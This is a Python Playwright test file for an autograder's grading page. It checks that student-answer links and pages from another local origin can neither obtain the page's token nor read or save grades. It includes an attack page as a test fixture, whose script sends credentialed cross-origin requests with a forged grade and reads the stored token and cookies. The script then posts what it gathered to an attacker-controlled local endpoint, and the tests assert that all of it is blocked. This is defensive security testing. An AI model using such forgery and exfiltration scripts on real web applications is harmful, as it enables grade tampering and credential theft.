"""The grading page's token stays with the page, in headless Chromium: an answer linking to
another local server hands that server nothing, and a page of another local origin, open in the
same browser as the grading page, can neither read an answer nor save a grade."""

from __future__ import annotations

import contextlib
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from manual_class import build_class
from manual_page import grading_server, local_browser
from playwright.sync_api import expect

from autograder.course.rubric import AssignmentSpec
from autograder.manual.store import ManualStore
from autograder.manual.totals import class_totals

ATTACK = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>elsewhere</title></head><body><script>
const grading = GRADING;
const grade = {student: "ada", part: "why_unit", adjustment: 2, comment: "forged", version: 0};
const item = {part: "why_unit", text: "forged", points: 2};
const got = {};
async function attempt(name, path, init) {
  try {
    const response = await fetch(grading + path, {credentials: "include", ...init});
    got[name] = `read ${response.status} ${await response.text()}`;
  } catch (error) {
    got[name] = `blocked ${error.name}`;
  }
}
(async () => {
  await attempt("state", "/api/state", {});
  await attempt("state with a header", "/api/state", {headers: {"X-Autograder-Token": "x"}});
  const headers = {"Content-Type": "application/json", "X-Autograder-Token": "x"};
  await attempt("grade", "/api/grade", {method: "POST", headers, body: JSON.stringify(grade)});
  const plain = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}};
  await attempt("grade, no-cors", "/api/grade", {...plain, body: JSON.stringify(grade)});
  await attempt("item, no-cors", "/api/item", {...plain, body: JSON.stringify(item)});
  got.storage = String(window.sessionStorage.getItem("autograder-token"));
  got.cookies = document.cookie;
  await fetch("/report", {method: "POST", body: JSON.stringify(got)});
  document.title = "reported";
})();
</script></body></html>
"""
"""A page of another local origin: it tries to read and change grades with the browser's
credentials, then posts what it got back to its own server and says so in its title (what the
test waits for: Playwright answers the browser's requests only while the test is in one of its
calls)."""


@dataclass
class Listener:
    """A tiny HTTP server on another port of 127.0.0.1: it records every request (its target
    and headers), serves `page` at /attack, and keeps what is posted to /report."""

    origin: str = ""
    page: str = ""
    seen: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    reports: list[dict[str, str]] = field(default_factory=list)

    def secrets_seen(self, token: str, grading: str) -> list[str]:
        """Whatever in the recorded requests could carry the token: the token itself anywhere,
        a cookie, a referrer naming the grading page at `grading`."""
        found = []
        for target, headers in self.seen:
            found += [f"{target}: token in the address"] if token in target else []
            for name, value in headers.items():
                referrer = name.lower() == "referer" and value.startswith(grading)
                if token in value or name.lower() == "cookie" or referrer:
                    found.append(f"{target}: {name}: {value}")
        return found


@contextlib.contextmanager
def listening(page: str = "") -> Iterator[Listener]:
    listener = Listener(page=page)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            listener.seen.append((self.path, dict(self.headers.items())))
            body = listener.page if self.path == "/attack" else "<!doctype html><title>x</title>"
            self._answer(body.encode())

        def do_POST(self) -> None:
            listener.seen.append((self.path, dict(self.headers.items())))
            length = int(self.headers.get("content-length", "0"))
            posted = self.rfile.read(length)
            if self.path == "/report":
                listener.reports.append(json.loads(posted))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass  # the test reads `seen`, not the log

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener.origin = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=30)


def _open_grading(context: Any, origin: str, token: str) -> Any:
    page = context.new_page()
    page.goto(f"{origin}/?token={token}", wait_until="load")
    expect(page.locator("#progress")).to_have_text(re.compile(r"^Answer 1 of 3;"))
    return page


def _nothing_saved(out: Path, spec: AssignmentSpec) -> None:
    totals = class_totals(out, spec)
    assert [totals[s].manual[0].points for s in ("ada", "ben", "cy")] == [None, None, None]
    with ManualStore(out) as store:
        assert store.items(spec.name) == []


def test_a_link_in_an_answer_gives_another_local_server_no_token(
    tmp_path: Path, spec: AssignmentSpec
) -> None:
    out = build_class(tmp_path / "out")
    with listening() as listener:
        notes, bare = f"{listener.origin}/notes", f"{listener.origin}/bare"
        with ManualStore(out) as store:
            answer = f"See [my notes]({notes}), <{bare}> and [the ref][1].\n\n[1]: {notes}?ref"
            store.record_answers(spec.name, "ada", {"why_unit": answer})
        with (
            grading_server(out, spec) as (origin, token),
            local_browser(origin, listener.origin) as (context, refused),
        ):
            browser = context()
            page = _open_grading(browser, origin, token)
            shown = page.locator("#answer-text")
            assert "ada" in page.inner_text("#answer-heading")
            assert shown.locator("a, [href], img").count() == 0  # nothing to follow
            assert notes in shown.inner_text() and bare in shown.inner_text()  # still readable
            shown.get_by_text("my notes", exact=False).click()
            assert page.url == f"{origin}/" and listener.seen == []
            assert browser.cookies() == []  # nothing a browser would send by itself

            # the grader copies an address into the same tab, then into another tab
            page.goto(notes, wait_until="load")
            other = browser.new_page()
            other.goto(bare, wait_until="load")
            page.go_back(wait_until="load")  # back on the grading page: it still works
            expect(page.locator("#progress")).to_have_text(re.compile(r"^Answer 1 of 3;"))
            assert refused == []

    assert [target for target, _ in listener.seen] == ["/notes", "/bare"]
    assert listener.secrets_seen(token, origin) == []


def test_a_page_of_another_local_origin_can_neither_read_nor_save(
    tmp_path: Path, spec: AssignmentSpec
) -> None:
    out = build_class(tmp_path / "out")
    with grading_server(out, spec) as (origin, token), listening() as listener:
        listener.page = ATTACK.replace("GRADING", json.dumps(origin))
        with local_browser(origin, listener.origin) as (context, refused):
            browser = context()
            page = _open_grading(browser, origin, token)
            # in another tab of the same browser, then in the grading tab itself
            elsewhere = browser.new_page()
            elsewhere.goto(f"{listener.origin}/attack")
            expect(elsewhere).to_have_title("reported")
            page.goto(f"{listener.origin}/attack")
            expect(page).to_have_title("reported")
            page.go_back(wait_until="load")
            expect(page.locator("#progress")).to_have_text(re.compile(r"^Answer 1 of 3;"))
            _nothing_saved(out, spec)

            # the grading tab, with its token, still saves: the refusals above were the token's
            page.keyboard.press("p")
            page.keyboard.press("Control+A")
            page.keyboard.type("1")
            page.keyboard.press("Enter")
            expect(page.locator("#status")).to_have_text("Saved: ada, 1 points.")
            assert refused == []

    for report in listener.reports:
        # nothing read: CORS (the preflight of a request with the header is refused), and
        # Cross-Origin-Resource-Policy for the no-cors posts, which the server refused besides
        attempts = ("state", "state with a header", "grade", "grade, no-cors", "item, no-cors")
        assert {report[a] for a in attempts} == {"blocked TypeError"}, report
        assert report["storage"] == "null" and report["cookies"] == "", report
        assert "ada" not in json.dumps(report) and token not in json.dumps(report)
    assert len(listener.reports) == 2
    totals = class_totals(out, spec)
    assert [totals[s].manual[0].points for s in ("ada", "ben", "cy")] == [1.0, None, None]
    with ManualStore(out) as store:
        assert store.items(spec.name) == []
    assert listener.secrets_seen(token, origin) == []
